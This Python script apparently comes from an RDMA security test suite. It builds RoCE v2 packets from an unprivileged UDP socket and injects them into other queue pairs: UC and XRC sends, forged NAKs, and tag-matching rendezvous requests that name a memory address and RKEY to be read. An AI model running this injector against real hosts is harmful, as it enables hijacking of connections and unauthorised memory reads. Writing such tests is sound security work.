#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""forge4791: what any user can send to a RoCE v2 device without
privilege: a plain UDP socket to port 4791 carrying a hand-built packet
with a valid ICRC (roce_pkt.py).  No raw socket, no capability.

    forge4791.py SPEC...

Each SPEC is one packet, sent from SRC (an address of this namespace;
the source port is 0xc0de) to DST:4791:
    uc-send,SRC,DST,QPN           a UC SEND ONLY with a 16-byte payload
    nak,SRC,DST,QPN,PSN,SYNDROME  an RC ACKNOWLEDGE with a NAK syndrome
                                  (0x60 PSN sequence error, 0x62 remote
                                  access error) for PSN
    xrc-send,SRC,DST,QPN,PSN,SRQN an XRC SEND ONLY (ACK requested) at PSN
                                  whose XRCETH names XRC SRQ SRQN, with
                                  the 16-byte payload
    tm-eager,SRC,DST,QPN,PSN,TAG  an RC SEND ONLY (ACK requested) at PSN
                                  carrying a tag matching header (TMH) of
                                  an eager message for TAG, then the
                                  16-byte payload
    tm-rndv,SRC,DST,QPN,PSN,TAG,VA,RKEY,LEN
                                  the same with the TMH of a rendezvous
                                  request for TAG and its header: LEN
                                  bytes to be read at VA with RKEY
Prints "forge4791: uid N euid N" first, then one line per packet sent.
Exit status 0 when every packet was handed to the socket.
"""
import os
import socket
import struct
import sys

from roce_pkt import ROCE_PORT, aeth, bth, udp_payload

SPORT = 0xc0de
IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2     # <linux/in.h>; not in Python's socket
OP_UC_SEND_ONLY = 0x24
OP_RC_ACK = 0x11
OP_RC_SEND_ONLY = 0x04
OP_XRC_SEND_ONLY = 0xa4
TMH_RNDV, TMH_EAGER = 1, 3      # infiniband/tm_types.h: enum ibv_tmh_op
PAYLOAD = b'forged, not his!'      # 16 bytes


def tmh(op, tag, app_ctx=0):
    """A tag matching header: op, 3 reserved bytes, app_ctx, tag."""
    return struct.pack('!B3xIQ', op, app_ctx, tag)


def rest_of(kind, f):
    """The BTH onward of the packet SPEC fields f describe."""
    qpn = int(f[0], 0)
    if kind == 'uc-send':
        return bth(OP_UC_SEND_ONLY, qpn, 0) + PAYLOAD
    if kind == 'nak':
        return bth(OP_RC_ACK, qpn, int(f[1], 0)) + aeth(int(f[2], 0))
    if kind == 'xrc-send':
        return bth(OP_XRC_SEND_ONLY, qpn, int(f[1], 0), ackreq=1) + \
            struct.pack('!I', int(f[2], 0) & 0xffffff) + PAYLOAD
    if kind == 'tm-eager':
        return bth(OP_RC_SEND_ONLY, qpn, int(f[1], 0), ackreq=1) + \
            tmh(TMH_EAGER, int(f[2], 0), 0xf0f0) + PAYLOAD
    if kind == 'tm-rndv':
        va, rkey, n = (int(x, 0) for x in f[3:6])
        return bth(OP_RC_SEND_ONLY, qpn, int(f[1], 0), ackreq=1) + \
            tmh(TMH_RNDV, int(f[2], 0), 0xf0f1) + \
            struct.pack('!QII', va, rkey, n)
    raise ValueError('unknown packet kind %r' % kind)


def send(spec):
    kind, src, dst, *f = spec.split(',')
    v6 = ':' in src
    s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET,
                      socket.SOCK_DGRAM)
    if v6:
        s.bind((src, SPORT, 0, 0))
    else:
        # DF on an unconnected socket: the kernel's IP ID is then 0
        s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
        s.bind((src, SPORT))
    s.sendto(udp_payload(src, dst, SPORT, rest_of(kind, f)), (dst, ROCE_PORT))
    s.close()
    print('forge4791: sent %s' % spec, flush=True)


def main():
    if len(sys.argv) < 2:
        print(__doc__, file=sys.stderr)
        return 2
    print('forge4791: uid %d euid %d' % (os.getuid(), os.geteuid()),
          flush=True)
    for spec in sys.argv[1:]:
        send(spec)
    return 0


if __name__ == '__main__':
    sys.exit(main())
